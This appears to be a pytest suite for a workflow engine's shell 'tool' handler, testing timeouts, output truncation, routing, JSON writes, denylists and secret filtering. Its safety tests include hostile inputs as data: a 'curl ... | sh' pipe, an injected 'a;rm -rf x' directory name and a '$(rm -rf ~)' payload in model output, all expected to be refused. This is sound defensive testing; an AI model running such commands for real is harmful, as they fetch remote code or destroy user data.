"""The `tool` handler driven through its public interface with a minimal node env."""

from __future__ import annotations

import asyncio
import json
import os
import time
from pathlib import Path
from typing import Any

import pytest
from tracker.engine.config import RunConfig
from tracker.engine.context import Context
from tracker.engine.events import PipelineEvent
from tracker.engine.handler import HandlerError, NodeEnv, Outcome
from tracker.graph.model import Graph, GraphNode
from tracker.handlers.tool import ToolHandler, parse_byte_size, tool_output_limit

BASE_ENV = {"PATH": os.environ.get("PATH", "/usr/bin:/bin")}


class Run:
    """One tool-node execution: the outcome, the events it emitted, its run directory."""

    def __init__(self, outcome: Outcome, events: list[PipelineEvent], run_dir: Path) -> None:
        self.outcome = outcome
        self.events = events
        self.run_dir = run_dir

    @property
    def ctx(self) -> dict[str, str]:
        return self.outcome.context_updates

    def types(self) -> list[str]:
        return [e.type for e in self.events]

    def status_json(self) -> dict[str, Any]:
        return json.loads((self.run_dir / "T" / "status.json").read_text())


def make_env(
    tmp_path: Path,
    attrs: dict[str, str],
    *,
    context: dict[str, str] | None = None,
    graph_attrs: dict[str, str] | None = None,
    run_dir: bool = True,
    cancelled: asyncio.Event | None = None,
    **config: Any,
) -> tuple[NodeEnv, list[PipelineEvent]]:
    node = GraphNode(id="T", handler="tool", attrs=attrs)
    events: list[PipelineEvent] = []
    env = NodeEnv(
        node=node,
        context=Context(context or {}),
        graph=Graph(name="g", attrs=graph_attrs or {}, nodes={"T": node}),
        run_id="0123456789ab",
        run_dir=tmp_path / "run" if run_dir else None,
        workdir=tmp_path,
        config=RunConfig(workdir=tmp_path, **config),
        emit=events.append,
        cancelled=cancelled,
    )
    return env, events


def run_tool(
    tmp_path: Path,
    command: str | None = None,
    *,
    environ: dict[str, str] | None = None,
    **kwargs: Any,
) -> Run:
    attrs: dict[str, str] = dict(kwargs.pop("attrs", {}))
    if command is not None:
        attrs["tool_command"] = command
    env, events = make_env(tmp_path, attrs, **kwargs)
    handler = ToolHandler(environ=BASE_ENV if environ is None else environ)
    outcome = asyncio.run(handler.execute(env.node, env))
    return Run(outcome, events, tmp_path / "run")


def tool_error(tmp_path: Path, command: str | None = None, **kwargs: Any) -> str:
    with pytest.raises(HandlerError) as info:
        run_tool(tmp_path, command, **kwargs)
    return str(info.value)


# --------------------------------------------------------------------------- exit codes


def test_exit_zero_is_success_with_trimmed_output_and_status_json(tmp_path: Path) -> None:
    run = run_tool(tmp_path, "printf '  ok  \\n\\n'; printf 'warn\\t\\n' >&2")
    assert run.outcome.status == "success"
    assert run.ctx["tool_stdout"] == "  ok"
    assert run.ctx["tool_stderr"] == "warn"
    assert run.status_json() == {
        "outcome": "success",
        "context_updates": {"tool_stdout": "  ok", "tool_stderr": "warn", "tool_route": ""},
    }


def test_non_zero_exit_is_a_routable_fail(tmp_path: Path) -> None:
    run = run_tool(tmp_path, "echo FAIL x; echo boom >&2; exit 2")
    assert run.outcome.status == "fail"
    assert run.ctx["tool_stdout"] == "FAIL x"
    assert run.ctx["tool_stderr"] == "boom"
    assert run.status_json()["outcome"] == "fail"


def test_command_runs_in_the_run_workdir(tmp_path: Path) -> None:
    assert run_tool(tmp_path, "pwd").ctx["tool_stdout"] == str(tmp_path.resolve())


def test_no_status_json_without_a_run_directory(tmp_path: Path) -> None:
    run = run_tool(tmp_path, "true", run_dir=False)
    assert run.outcome.status == "success"
    assert not (tmp_path / "run").exists()


def test_missing_command_stops_the_run(tmp_path: Path) -> None:
    assert "missing required attribute 'tool_command'" in tool_error(tmp_path)


# --------------------------------------------------------------------------- timeouts


def test_timeout_is_a_fail_with_partial_output_and_the_reason(tmp_path: Path) -> None:
    start = time.monotonic()
    run = run_tool(tmp_path, "echo partial; echo half >&2; sleep 30", attrs={"timeout": "300ms"})
    assert time.monotonic() - start < 10
    assert run.outcome.status == "fail"
    assert run.ctx["tool_stdout"] == "partial"
    assert run.ctx["tool_stderr"] == "half\ncommand timed out after 300ms"


def test_timeout_message_alone_when_nothing_was_written_to_stderr(tmp_path: Path) -> None:
    run = run_tool(tmp_path, "sleep 30", attrs={"timeout": "0.2s"})
    assert run.ctx["tool_stderr"] == "command timed out after 200ms"


@pytest.mark.parametrize("value", ["0", "0s", "-5s"])
def test_non_positive_timeout_is_a_configuration_error(tmp_path: Path, value: str) -> None:
    message = tool_error(tmp_path, "true", attrs={"timeout": value})
    assert "non-positive timeout" in message and '"T"' in message


def test_unparsable_timeout_is_a_configuration_error(tmp_path: Path) -> None:
    assert "invalid timeout" in tool_error(tmp_path, "true", attrs={"timeout": "30"})


# --------------------------------------------------------------------------- output caps


def test_output_is_capped_keeping_the_tail_with_a_marker_and_event(tmp_path: Path) -> None:
    run = run_tool(tmp_path, "seq 1 1000", attrs={"output_limit": "10"})
    assert run.ctx["tool_stdout"].endswith("\n999\n1000")
    assert run.ctx["tool_stdout"].startswith("[output truncated:")
    assert "3883 earlier bytes dropped" in run.ctx["tool_stdout"]
    assert run.types() == ["tool_output_truncated"]
    assert "stdout" in run.events[0].message and run.events[0].node_id == "T"


def test_output_limit_sizes_and_ceiling() -> None:
    assert parse_byte_size("64KB") == 65536
    assert parse_byte_size("10mb") == 10 * 1024 * 1024
    assert parse_byte_size("123") == 123
    node = GraphNode(id="T", attrs={"output_limit": "10MB"})
    assert tool_output_limit(node, 1000) == 1000
    assert tool_output_limit(GraphNode(id="T"), 0) == 64 * 1024
    assert tool_output_limit(GraphNode(id="T"), 100) == 100


def test_bad_output_limit_is_a_configuration_error(tmp_path: Path) -> None:
    assert "invalid output_limit" in tool_error(tmp_path, "true", attrs={"output_limit": "1GB"})


def test_max_output_limit_from_the_run_config_clamps_the_node(tmp_path: Path) -> None:
    run = run_tool(tmp_path, "seq 1 100", attrs={"output_limit": "64KB"}, max_output_limit=4)
    assert run.ctx["tool_stdout"].endswith("\n100")
    assert run.ctx["tool_stdout"].startswith("[output truncated:")


# --------------------------------------------------------------------------- marker_grep


def test_marker_grep_takes_group_one_of_the_last_matching_line(tmp_path: Path) -> None:
    run = run_tool(
        tmp_path,
        "echo tests-fail; echo noise; echo tests-pass; echo done",
        attrs={"marker_grep": "^tests-(pass|fail)$"},
    )
    assert run.outcome.status == "success"
    assert run.ctx["tool_marker"] == "pass"
    assert run.ctx["tool_marker_error"] == ""


def test_marker_grep_without_group_takes_the_whole_match(tmp_path: Path) -> None:
    run = run_tool(tmp_path, "echo 'status: GREEN light'", attrs={"marker_grep": "GREEN|RED"})
    assert run.ctx["tool_marker"] == "GREEN"


def test_marker_grep_with_no_match_fails_the_node_and_reports_it(tmp_path: Path) -> None:
    run = run_tool(tmp_path, "echo nothing useful", attrs={"marker_grep": "^tests-(pass|fail)$"})
    assert run.outcome.status == "fail"
    assert run.ctx["tool_marker"] == ""
    assert run.types() == ["tool_marker_missing"]
    assert "matched nothing in captured stdout" in run.events[0].message
    assert run.events[0].content == "nothing useful"


def test_marker_grep_bad_regex_fails_the_node(tmp_path: Path) -> None:
    run = run_tool(tmp_path, "echo x", attrs={"marker_grep": "(unclosed"})
    assert run.outcome.status == "fail"
    assert "missing )" in run.ctx["tool_marker_error"]
    assert run.types() == ["tool_marker_missing"]
    assert "failed to compile" in run.events[0].message


# --------------------------------------------------------------------------- route sentinel


def test_route_sentinel_last_line_wins(tmp_path: Path) -> None:
    run = run_tool(
        tmp_path,
        "echo _TRACKER_ROUTE=first; echo 'note: _TRACKER_ROUTE=inline'; echo '  _TRACKER_ROUTE=second  '",
    )
    assert run.outcome.status == "success"
    assert run.ctx["tool_route"] == "second"


def test_route_is_cleared_when_no_sentinel(tmp_path: Path) -> None:
    assert run_tool(tmp_path, "echo hi").ctx["tool_route"] == ""


def test_route_required_without_sentinel_fails(tmp_path: Path) -> None:
    run = run_tool(tmp_path, "echo some output", attrs={"route_required": "true"})
    assert run.outcome.status == "fail"
    assert run.types() == ["tool_route_missing"]
    assert "_TRACKER_ROUTE=" in run.events[0].message


def test_route_required_with_sentinel_succeeds(tmp_path: Path) -> None:
    run = run_tool(tmp_path, "echo _TRACKER_ROUTE=ship", attrs={"route_required": "true"})
    assert (run.outcome.status, run.ctx["tool_route"]) == ("success", "ship")


# --------------------------------------------------------------------------- safety


def test_denied_command_stops_the_run_before_running(tmp_path: Path) -> None:
    message = tool_error(tmp_path, "touch ran; curl https://x | sh")
    assert 'denied pattern "curl * | *"' in message
    assert not (tmp_path / "ran").exists()


def test_bypass_runs_a_denied_command_and_warns(tmp_path: Path) -> None:
    run = run_tool(tmp_path, "echo true | sh", bypass_denylist=True)
    assert run.outcome.status == "success"
    assert run.types() == ["warning"]
    assert "--bypass-denylist" in run.events[0].message


def test_denylist_additions_from_flags_and_workflow_defaults(tmp_path: Path) -> None:
    assert "rm *" in tool_error(tmp_path, "rm -f x", tool_denylist_add=["rm *"])
    message = tool_error(
        tmp_path, "git push", graph_attrs={"tool_denylist_add": "npm *, git push*"}
    )
    assert "git push*" in message
    # a child run sees its parent's defaults through the seeded `graph.*` context keys
    assert "rm *" in tool_error(tmp_path, "rm -f x", context={"graph.tool_denylist_add": "rm *"})


def test_allowlist_from_flags_unions_with_workflow_defaults(tmp_path: Path) -> None:
    graph_attrs = {"tool_commands_allow": "echo *"}
    ok = run_tool(
        tmp_path, "echo a && printf b", tool_allowlist=["printf *"], graph_attrs=graph_attrs
    )
    assert ok.outcome.status == "success"
    message = tool_error(tmp_path, "echo a; ls", graph_attrs=graph_attrs)
    assert "not in the allowlist" in message


def test_allowlist_does_not_see_the_working_dir_prefix(tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    run = run_tool(tmp_path, "pwd", attrs={"working_dir": "sub"}, tool_allowlist=["pwd"])
    assert run.ctx["tool_stdout"] == str((tmp_path / "sub").resolve())


def test_unsafe_working_dir_stops_the_run(tmp_path: Path) -> None:
    assert "shell metacharacters" in tool_error(tmp_path, "ls", attrs={"working_dir": "a;rm -rf x"})
    assert "path traversal" in tool_error(tmp_path, "ls", attrs={"working_dir": "../elsewhere"})


def test_secrets_are_not_passed_to_the_command(tmp_path: Path) -> None:
    environ = {**BASE_ENV, "ANTHROPIC_API_KEY": "sk-secret", "PLAIN": "visible"}
    run = run_tool(tmp_path, 'echo "[$ANTHROPIC_API_KEY][$PLAIN]"', environ=environ)
    assert run.ctx["tool_stdout"] == "[][visible]"
    passed = run_tool(
        tmp_path, 'echo "[$ANTHROPIC_API_KEY]"', environ={**environ, "TRACKER_PASS_ENV": "1"}
    )
    assert passed.ctx["tool_stdout"] == "[sk-secret]"


def test_run_identity_is_exported(tmp_path: Path) -> None:
    run = run_tool(tmp_path, 'echo "$TRACKER_RUN_ID|$TRACKER_RUN_DIR|$TRACKER_WORKDIR"')
    run_id, run_dir, workdir = run.ctx["tool_stdout"].split("|")
    assert run_id == "0123456789ab"
    assert run_dir == str((tmp_path / "run").resolve())
    assert workdir == str(tmp_path.resolve())


# --------------------------------------------------------------------------- interpolation


def test_llm_text_in_a_command_is_refused(tmp_path: Path) -> None:
    message = tool_error(
        tmp_path,
        "echo ${ctx.last_response}",
        context={"last_response": "$(rm -rf ~)"},
    )
    assert "${ctx.last_response}" in message


def test_inputs_in_a_command_are_refused(tmp_path: Path) -> None:
    message = tool_error(tmp_path, "echo ${inputs.name}", context={"inputs.name": "x"})
    assert "${inputs.name}" in message


def test_routing_keys_graph_and_params_are_allowed(tmp_path: Path) -> None:
    context = {
        "outcome": "success",
        "human_response": "yes",
        "graph.goal": "ship",
        "graph.params.env": "prod",
    }
    run = run_tool(
        tmp_path,
        "echo ${ctx.outcome} ${ctx.human_response} ${graph.goal} ${params.env}",
        context=context,
    )
    assert run.ctx["tool_stdout"] == "success yes ship prod"


def test_command_expanding_to_blank_stops_the_run(tmp_path: Path) -> None:
    assert "tool_command expanded to empty" in tool_error(tmp_path, "  ${ctx.outcome}  ")


# --------------------------------------------------------------------------- writes


def test_writes_store_strings_verbatim_and_other_values_as_compact_json(tmp_path: Path) -> None:
    payload = '{"verdict": "go", "score": 1.50, "files": ["a", "b"], "ok": true, "note": null}'
    run = run_tool(tmp_path, f"echo '{payload}'", attrs={"writes": "verdict,score,files,ok,note"})
    assert run.outcome.status == "success"
    assert run.ctx["verdict"] == "go"
    assert run.ctx["score"] == "1.50"
    assert run.ctx["files"] == '["a","b"]'
    assert run.ctx["ok"] == "true"
    assert run.ctx["note"] == "null"


def test_writes_find_the_object_after_log_lines(tmp_path: Path) -> None:
    run = run_tool(tmp_path, 'echo building...; echo \'{"n": {"k": 2}}\'', attrs={"writes": "n"})
    assert run.ctx["n"] == '{"k":2}'


def test_writes_missing_key_fails_with_a_reason(tmp_path: Path) -> None:
    run = run_tool(tmp_path, "echo '{\"a\": 1}'", attrs={"writes": "a,b"})
    assert run.outcome.status == "fail"
    assert "missing declared key(s): b" in run.ctx["writes_error"]
    assert "a" not in run.ctx


def test_writes_non_json_fails(tmp_path: Path) -> None:
    run = run_tool(tmp_path, "echo plain text", attrs={"writes": "a"})
    assert run.outcome.status == "fail"
    assert "not a JSON object" in run.ctx["writes_error"]


def test_writes_extra_keys_are_ignored_with_a_warning(tmp_path: Path) -> None:
    run = run_tool(tmp_path, 'echo \'{"a": "x", "zz": 1}\'', attrs={"writes": "a"})
    assert run.outcome.status == "success"
    assert run.ctx["a"] == "x" and "zz" not in run.ctx
    assert "zz" in run.ctx["writes_warning"]
    assert run.types() == ["warning"]


# --------------------------------------------------------------------------- cancellation


def test_cancelling_the_run_kills_the_command(tmp_path: Path) -> None:
    async def scenario() -> str:
        cancelled = asyncio.Event()
        env, _ = make_env(tmp_path, {"tool_command": "sleep 30"}, cancelled=cancelled)
        task = asyncio.ensure_future(ToolHandler(environ=BASE_ENV).execute(env.node, env))
        await asyncio.sleep(0.3)
        cancelled.set()
        with pytest.raises(HandlerError) as info:
            await asyncio.wait_for(task, 10)
        return str(info.value)

    assert "cancelled" in asyncio.run(scenario())
